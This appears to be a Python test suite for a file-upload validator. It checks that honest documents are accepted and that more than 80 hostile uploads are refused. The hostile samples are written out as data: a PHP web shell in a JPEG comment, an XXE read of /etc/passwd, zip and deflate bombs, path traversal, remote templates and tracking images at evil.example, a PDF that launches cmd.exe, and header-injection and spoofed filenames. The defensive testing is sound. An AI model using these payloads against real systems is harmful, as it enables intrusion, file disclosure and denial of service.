"""What is taken and what is refused, before anything is stored."""

from __future__ import annotations

import contextlib
import io
import struct
import zipfile
import zlib

import pytest

from accredit.evidence.content import File
from accredit.evidence.domain import (
    ContentError,
    EmptyFileError,
    FileNameError,
    FileTooLargeError,
    FileTypeError,
    UnsafeContentError,
    Upload,
    UploadError,
)
from accredit.evidence.policy import FILE_KINDS, admit, check_content, media_type
from tests.evidence import files
from tests.evidence.files import HONEST, PDF, archive, office, office_parts, relations

LIMIT = 25 * 1024 * 1024


def look(name: str, content: bytes, limit: int = LIMIT) -> File:
    """The rules themselves, in this process; `test_limited` asks the limited one."""
    file = admit(Upload(name, io.BytesIO(content)), limit=limit)
    check_content(file)
    return file


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_of_every_kind_is_taken(name):
    accepted = look(name, HONEST[name])
    ending = name.rpartition(".")[2].lower()
    assert accepted.name == name
    assert media_type(accepted) == FILE_KINDS[ending].media_type


def test_the_honest_files_cover_the_whole_allow_list():
    assert {name.rpartition(".")[2].lower() for name in HONEST} == set(FILE_KINDS)


def test_a_workbook_written_by_a_real_library_is_taken():
    import xlsxwriter

    target = io.BytesIO()
    book = xlsxwriter.Workbook(target)
    sheet = book.add_worksheet("المؤشرات")
    sheet.write_url(0, 0, "https://example.org/")
    sheet.insert_image(2, 0, "counter.png", {"image_data": io.BytesIO(files.png())})
    book.close()
    assert look("kpi.xlsx", target.getvalue())


def test_a_document_written_by_a_real_pdf_library_is_taken():
    from reportlab.pdfgen import canvas

    target = io.BytesIO()
    drawing = canvas.Canvas(target)
    drawing.drawString(72, 720, "Service charter")
    drawing.linkURL("https://example.org/", (72, 700, 200, 720))
    drawing.save()
    assert look("charter.pdf", target.getvalue())


def test_a_document_with_compressed_objects_is_taken():
    import pikepdf

    target = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        made.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/ObjStm" in target.getvalue()
    assert look("plan.pdf", target.getvalue())


def pikepdf_with_script(compressed: bool, password: str | None = None) -> bytes:
    import pikepdf

    target = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        made.Root.OpenAction = made.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")
        )
        mode = pikepdf.ObjectStreamMode
        made.save(
            target,
            object_stream_mode=mode.generate if compressed else mode.disable,
            encryption=pikepdf.Encryption(owner=password, user="") if password else False,
        )
    return target.getvalue()


def overlapping() -> bytes:
    """Two entries of the directory that point at the same bytes."""
    data = bytearray(archive(office_parts()))
    second = data.index(b"PK\x01\x02", data.index(b"PK\x01\x02") + 4)
    data[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(data)


def encrypted() -> bytes:
    data = bytearray(office())
    central = data.index(b"PK\x01\x02")
    data[central + 8] |= 1
    return bytes(data)


def flate_bomb() -> bytes:
    packed = zlib.compress(b"\0" * (70 * 1024 * 1024), 9)
    return files.pdf_with(
        b"9 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + packed + b"\nendstream"
    )


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><sst>&b;</sst>'
UTF16_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE l [<!ENTITY a "ha">]><sst/>'.encode("utf-16")
)
LINKED_TEMPLATE = relations(("attachedTemplate", "https://evil.example/t.dotm", "External"))
TRACKING_PICTURE = relations(("image", "http://evil.example/seen.png", "External"))
SHARED_TEMPLATE = relations(("attachedTemplate", r"\\evil.example\share\t.dotm", "External"))
MACRO_TYPES = '<Override PartName="/v" ContentType="application/vnd.ms-office.vbaProject"/>'
MACRO_MAIN = (
    '<Override PartName="/m" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
SYMLINK = {"link": 0o120777 << 16}

HOSTILE = {
    # name: (file name, content, the refusal)
    "an empty file": ("empty.pdf", b"", EmptyFileError),
    "a web page called PDF": ("a.pdf", b"<!doctype html><script>alert(1)</script>", ContentError),
    "a web page": ("page.html", b"<html></html>", FileTypeError),
    "a picture that runs scripts": ("a.svg", b"<svg onload='alert(1)'/>", FileTypeError),
    "that picture called PNG": ("a.png", b"<svg onload='alert(1)'/>", ContentError),
    "an XHTML page": ("a.xml", b"<html xmlns='http://www.w3.org/1999/xhtml'/>", FileTypeError),
    "a style sheet that transforms": ("a.xsl", b"<xsl:stylesheet/>", FileTypeError),
    "a saved web page": ("a.mht", b"MIME-Version: 1.0\n", FileTypeError),
    "a picture that is also a script": ("a.gif", b"GIF89a/*..*/=alert(1)//;", FileTypeError),
    "a PDF that begins as a page": ("a.pdf", b"<html>\n" + PDF, ContentError),
    "a PDF with a page in its head": (
        "a.pdf",
        PDF.replace(b"%PDF-1.4\n", b"%PDF-1.4\n<html><script>alert(1)</script>\n"),
        UnsafeContentError,
    ),
    "a PDF followed by a page": ("a.pdf", PDF + b"<html></html>", UnsafeContentError),
    "a PDF followed by an archive": ("a.pdf", PDF + office(), UnsafeContentError),
    "a PDF cut off": ("a.pdf", PDF[:60], ContentError),
    "a PDF with a script": ("a.pdf", pikepdf_with_script(False), UnsafeContentError),
    "a PDF with a compressed script": ("a.pdf", pikepdf_with_script(True), UnsafeContentError),
    "a PDF with a script behind a password": (
        "a.pdf",
        pikepdf_with_script(True, "owner"),
        UnsafeContentError,
    ),
    "a PDF with a script spelt in codes": (
        "a.pdf",
        files.pdf_with(b"4 0 obj<</S/J#61va#53cript/JS(x)>>endobj"),
        UnsafeContentError,
    ),
    "a PDF that starts a program": (
        "a.pdf",
        files.pdf_with(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
        UnsafeContentError,
    ),
    "a PDF with a program inside": (
        "a.pdf",
        files.pdf_with(b"4 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj"),
        UnsafeContentError,
    ),
    "a PDF that unpacks without end": ("a.pdf", flate_bomb(), UnsafeContentError),
    "a photograph with PHP in its comment": (
        "a.jpg",
        files.jpeg(comment=b"<?php system($_GET[0]);"),
        UnsafeContentError,
    ),
    "a photograph followed by a page": (
        "a.jpg",
        files.jpeg() + b"<script>alert(1)</script>",
        UnsafeContentError,
    ),
    "a photograph followed by an archive": (
        "a.jpg",
        files.jpeg() + b"PK\x03\x04\x14\x00",
        UnsafeContentError,
    ),
    "a photograph cut off": ("a.jpg", files.jpeg()[:-8], ContentError),
    "a photograph without a frame": ("a.jpg", b"\xff\xd8\xff\xd9", ContentError),
    "a picture of 60,000 by 60,000": ("a.png", files.png(60_000, 60_000), UnsafeContentError),
    "a photograph of 60,000 by 60,000": ("a.jpg", files.jpeg(60_000, 60_000), UnsafeContentError),
    "a picture without width": ("a.png", files.png(0, 5), ContentError),
    "a picture followed by a script": ("a.png", files.png() + b"<script>", UnsafeContentError),
    "a picture cut off": ("a.png", files.png()[:-6], ContentError),
    "a picture of which only the head is there": ("a.png", files.png()[:20], ContentError),
    "a document that asks for a file of ours": (
        "a.docx",
        office(
            **{"word/document.xml": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d/>'}
        ),
        UnsafeContentError,
    ),
    "a document with a template from elsewhere": (
        "a.docx",
        office(**{"word/_rels/settings.xml.rels": LINKED_TEMPLATE}),
        UnsafeContentError,
    ),
    "a document with a template on a strange share": (
        "a.docx",
        office(**{"word/_rels/settings.xml.rels": SHARED_TEMPLATE}),
        UnsafeContentError,
    ),
    "a document with a picture that reports its reader": (
        "a.docx",
        office(**{"word/_rels/document.xml.rels": TRACKING_PICTURE}),
        UnsafeContentError,
    ),
    "a document with macros": (
        "a.docx",
        office(**{"word/vbaProject.bin": b"x"}),
        UnsafeContentError,
    ),
    "a document with macros by another name": (
        "a.docx",
        office(more_types=MACRO_TYPES),
        UnsafeContentError,
    ),
    "a document that calls itself one with macros": (
        "a.docx",
        office(more_types=MACRO_MAIN),
        UnsafeContentError,
    ),
    "a document with macros, named so": ("a.docm", office(), FileTypeError),
    "a document with a program inside": (
        "a.docx",
        office(**{"word/embeddings/setup.exe": b"MZ"}),
        UnsafeContentError,
    ),
    "a document with controls that run": (
        "a.docx",
        office(**{"word/activeX/activeX1.bin": b"x"}),
        UnsafeContentError,
    ),
    "a workbook of entities": (
        "a.xlsx",
        office("xlsx", **{"xl/s.xml": LAUGHS}),
        UnsafeContentError,
    ),
    "a workbook of entities in UTF-16": (
        "a.xlsx",
        office("xlsx", **{"xl/s.xml": UTF16_LAUGHS}),
        UnsafeContentError,
    ),
    "a workbook called document": ("a.docx", office("xlsx"), ContentError),
    "a workbook that unpacks to 100 MB": (
        "a.xlsx",
        office("xlsx", **{"xl/media/zeros.bin": b"\0" * (100 * 1024 * 1024)}),
        UnsafeContentError,
    ),
    "an archive": ("a.zip", office(), FileTypeError),
    "an archive called document": ("a.docx", archive({"readme.txt": b"x"}), ContentError),
    "a document of 2,001 parts": (
        "a.docx",
        archive({**office_parts(), **{f"p{n}": b"" for n in range(1998)}}),
        UnsafeContentError,
    ),
    "a document with a way out of its folder": (
        "a.docx",
        archive({**office_parts(), "../../etc/cron.d/x": b"x"}),
        UnsafeContentError,
    ),
    "a document with a symbolic link": (
        "a.docx",
        archive({**office_parts(), "link": b"/etc/passwd"}, attributes=SYMLINK),
        UnsafeContentError,
    ),
    "a document whose parts overlap": ("a.docx", overlapping(), UnsafeContentError),
    "a document with locked parts": ("a.docx", encrypted(), UnsafeContentError),
    "a document behind a password": (
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99,
        UnsafeContentError,
    ),
    "a document behind a script": ("a.docx", b"#!/bin/sh\nexit\n" + office(), ContentError),
    "a document followed by a script": ("a.docx", office() + b"<script>", UnsafeContentError),
    "a document cut off": ("a.docx", office()[:-30], ContentError),
    "an OpenDocument with macros": (
        "a.odt",
        files.open_document(**{"Basic/Standard/Module1.xml": b"<m/>"}),
        UnsafeContentError,
    ),
    "an OpenDocument behind a password": (
        "a.odt",
        archive(
            {
                "mimetype": b"application/vnd.oasis.opendocument.text",
                "META-INF/manifest.xml": b"<m:m xmlns:m='urn:m'><m:encryption-data/></m:m>",
            },
            stored=True,
        ),
        UnsafeContentError,
    ),
    "an OpenDocument of another kind": ("a.ods", files.open_document("text"), ContentError),
    "a program called report": ("report.pdf.exe", b"MZ\x90\0", FileTypeError),
    "a program called document": ("a.docx", b"\x7fELF\x02\x01\x01", ContentError),
    "a packed table": ("a.csv.gz", b"\x1f\x8b\x08", FileTypeError),
    "a shortcut": ("a.lnk", b"L\0\0\0", FileTypeError),
    "a mail": ("a.eml", b"From: a@example.org\n\nhello", FileTypeError),
    "text with a NUL": ("a.txt", b"one\0two", ContentError),
    "text that is a PDF": ("a.txt", PDF, ContentError),
    "a table that is a workbook": ("a.csv", office("xlsx"), ContentError),
    "half a UTF-16 text": ("a.txt", b"\xff\xfea\0b", ContentError),
    "sound that is a page": ("a.mp3", b"<html>" * 400, ContentError),
    "sound with a page in its tag": ("a.mp3", files.mp3(tag=b"<script>x"), UnsafeContentError),
    "sound with a cut-off tag": ("a.mp3", b"ID3\x04", ContentError),
    "film followed by an archive": ("a.mp4", files.MP4 + office(), ContentError),
    "film without an index": ("a.mp4", files.box(b"ftyp", b"isom"), ContentError),
    "film that counts backwards": (
        "a.mp4",
        files.box(b"ftyp", b"isom") + b"\0\0\0\x02moov",
        ContentError,
    ),
    "a file without an ending": ("report", PDF, FileTypeError),
    "a file that is only an ending": (".pdf", PDF, FileTypeError),
    "a name with a stream of its own": ("a.pdf::$DATA", PDF, FileTypeError),
    "a name that ends in a dot": ("a.pdf.", PDF, FileTypeError),
    "a name with a NUL": ("a\0.pdf", PDF, FileNameError),
    "a name with a new line": ("a\r\nSet-Cookie: x=1.pdf", PDF, FileNameError),
    "a name that is shown backwards": ("invoice\u202efdp.exe.pdf", PDF, FileNameError),
    "a name with isolated parts": ("\u2066a\u2069.pdf", PDF, FileNameError),
    "a name of 201 characters": ("ن" * 197 + ".pdf", PDF, FileNameError),
    "a name of half a character": ("a\udc80.pdf", PDF, FileNameError),
    "no name": ("", PDF, FileNameError),
    "a name that is a folder": ("reports/", PDF, FileNameError),
    "the name of the folder above": ("..", PDF, FileNameError),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_for_its_own_reason(case):
    name, content, refusal = HOSTILE[case]
    with pytest.raises(UploadError) as caught:
        look(name, content)
    assert type(caught.value) is refusal, str(caught.value)


def test_the_table_of_hostile_files_is_long():
    assert len(HOSTILE) >= 80


NAMES = {
    "تقرير الجودة ٢٠٢٥.pdf": "تقرير الجودة ٢٠٢٥.pdf",
    "تقرير\u200fالجودة.pdf": "تقرير\u200fالجودة.pdf",
    "cafe\u0301.pdf": "cafe\u0301.pdf",
    "caf\u00e9.pdf": "caf\u00e9.pdf",
    "../../x.pdf": "x.pdf",
    "/etc/passwd.pdf": "passwd.pdf",
    r"C:\Users\omar\تقرير.pdf": "تقرير.pdf",
    '"><img src=x onerror=1>.pdf': '"><img src=x onerror=1>.pdf',
    "-rf.pdf": "-rf.pdf",
    " report.pdf ": "report.pdf",
    "ن" * 196 + ".pdf": "ن" * 196 + ".pdf",
    "CON.pdf": "CON.pdf",
    "report.PDF": "report.PDF",
}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_is_kept_as_it_is_without_its_folders(name):
    assert look(name, PDF).name == NAMES[name]


def test_a_file_of_exactly_the_limit_is_taken_and_one_byte_more_is_not():
    assert look("a.pdf", PDF, limit=len(PDF))
    with pytest.raises(FileTooLargeError):
        look("a.pdf", PDF, limit=len(PDF) - 1)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1256"])
def test_text_in_any_usual_encoding_is_taken_and_announced_alike(encoding):
    file = look("a.txt", "مرحبا".encode(encoding))
    assert media_type(file) == "text/plain; charset=utf-8"


def test_a_link_somebody_must_follow_themselves_is_no_reason_to_refuse():
    links = relations(
        ("hyperlink", "https://example.org/", "External"),
        ("attachedTemplate", "file:///C:/Templates/letter.dotx", "External"),
    )
    assert look("a.docx", office(**{"word/_rels/document.xml.rels": links}))


def test_the_long_form_of_an_archive_is_taken_when_it_says_the_same():
    plain = office()
    *_, entries, length, place, _comment = struct.unpack("<4s4H2IH", plain[-22:])
    record = struct.pack(
        "<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, length, place
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, len(plain) - 22, 1)
    assert look("a.docx", plain[:-22] + record + locator + plain[-22:])
    lying = record.replace(struct.pack("<Q", length), struct.pack("<Q", length - 1))
    with pytest.raises(ContentError):
        look("a.docx", plain[:-22] + lying + locator + plain[-22:])


def test_a_bomb_is_refused_without_being_unpacked():
    import tracemalloc

    content = office("xlsx", **{"xl/media/zeros.bin": b"\0" * (100 * 1024 * 1024)})
    tracemalloc.start()
    with pytest.raises(UnsafeContentError):
        look("a.xlsx", content)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 4 * 1024 * 1024


def survives(name: str, content: bytes) -> None:
    """The check takes or refuses; anything else it raises is a fault of ours."""
    with contextlib.suppress(UploadError):
        look(name, content)


@pytest.mark.parametrize("name", HONEST)
def test_no_cut_of_an_honest_file_breaks_the_check_itself(name):
    content = HONEST[name]
    for length in range(1, len(content), max(1, len(content) // 40)):
        survives(name, content[:length])


def test_a_random_change_of_a_document_breaks_nothing_but_the_document():
    import random

    chance = random.Random(4)
    for content, name in ((office(), "a.docx"), (PDF, "a.pdf"), (files.jpeg(), "a.jpg")):
        for _ in range(200):
            changed = bytearray(content)
            for _ in range(chance.randint(1, 4)):
                changed[chance.randrange(len(changed))] = chance.randrange(256)
            survives(name, bytes(changed))


def test_zipfile_agrees_that_the_honest_documents_are_whole():
    for name in ("letter.docx", "letter.odt"):
        assert zipfile.ZipFile(io.BytesIO(HONEST[name])).testzip() is None
